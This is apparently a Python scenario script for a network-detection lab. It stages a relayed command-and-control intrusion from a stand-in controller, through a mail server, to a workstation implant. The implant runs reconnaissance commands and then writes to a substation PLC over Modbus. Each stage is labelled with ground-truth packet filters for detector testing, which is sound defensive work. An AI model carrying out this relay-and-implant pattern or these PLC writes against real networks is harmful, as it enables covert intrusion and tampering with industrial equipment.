"""A workstation is controlled through a relay inside: it never speaks to the internet's controller itself.

    c2 ◀──tls── mail (DMZ) ◀──tls── ws1 (office) ──Modbus──▶ plc2 (substation)

The mail server passes on, byte for byte. Both connections are opened from inside.
"""

import json
import time

from lab import attack, servers

DESCRIPTION = ("A workstation is controlled through a relay on the mail server: each opens a TLS connection, and what comes on "
               "one goes out on the other. By order from outside the workstation writes to a PLC.")
PACE = 2
TAPS = attack.taps("border", "dmz", "office", "substation")

C2, MAIL, WS1, PLC = "203.0.113.99", "10.20.0.25", "10.30.0.21", "10.50.0.12"
PORT = "8443"


def play(lab, people, truth):
    program = ["/usr/bin/python3", f"{lab.programs}/control.py"]
    meddle = f"{lab.programs}/meddle"
    orders = [[4, "id"], [2, "ip addr"], [3.3, "ip route"], [2.1, "ps ax"], [4.2, "ls /usr/share"], [1.7, "uname -a"],
              [2.6, "hostname"], [3.1, f"{meddle} identify {PLC}"], [2.4, f"{meddle} sweep {PLC}"],
              [3.7, f"{meddle} write {PLC}"], [2.2, "id"], [2.9, "ls /"]]
    time.sleep(12)
    cert, key = servers.certificate(lab, "relay.example")
    lab.start("c2", [*program, "serve", PORT, cert, key, json.dumps(orders)])
    lab.wait_for_port("c2", int(PORT))
    lab.start("mail", [*program, "relay", PORT, C2, PORT])
    lab.wait_for_port("mail", int(PORT))
    control = dict(protocol="tls", ports=[int(PORT)], must_detect=False,
                   techniques=[attack.enterprise("command-and-control", "T1090.001")])
    with truth.stage("relayed", "The workstation's connection to the relay", source=[WS1], destination=[MAIL],
                     taps=["office", "dmz"], evidence=f"ip.src == {WS1} && ip.dst == {MAIL} && tcp.dstport == {PORT}",
                     expect="a workstation speaks TLS with a mail server on a port of its own", **control), \
         truth.stage("relay", "The relay's connection to the controller", source=[MAIL], destination=[C2],
                     taps=["border", "dmz"], evidence=f"ip.src == {MAIL} && ip.dst == {C2} && tcp.dstport == {PORT}",
                     expect="listed address", **(control | {"must_detect": True})), \
         truth.stage("writes", "Writes from the workstation", source=[WS1], destination=[PLC], protocol="modbus", ports=[502],
                     taps=["substation"], techniques=attack.WRITES,
                     evidence=f"ip.src == {WS1} && ip.dst == {PLC} && {attack.WRITING}", expect="writes across zones"):
        attack.wait(lab.start("ws1", [*program, "implant", MAIL, PORT]), 120)
    truth.hop(C2, MAIL, int(PORT), "tls", "relay", "border", opened_by="to")
    truth.hop(MAIL, WS1, int(PORT), "tls", "relayed", "dmz", opened_by="to")
    truth.hop(WS1, PLC, 502, "modbus", "writes", "substation")
    time.sleep(5)


def write(folder):
    from lab import truth as record
    record.reputation(folder, [("ipv4", "203.0.113.96/28", 80, "example list of the recorded relay")])
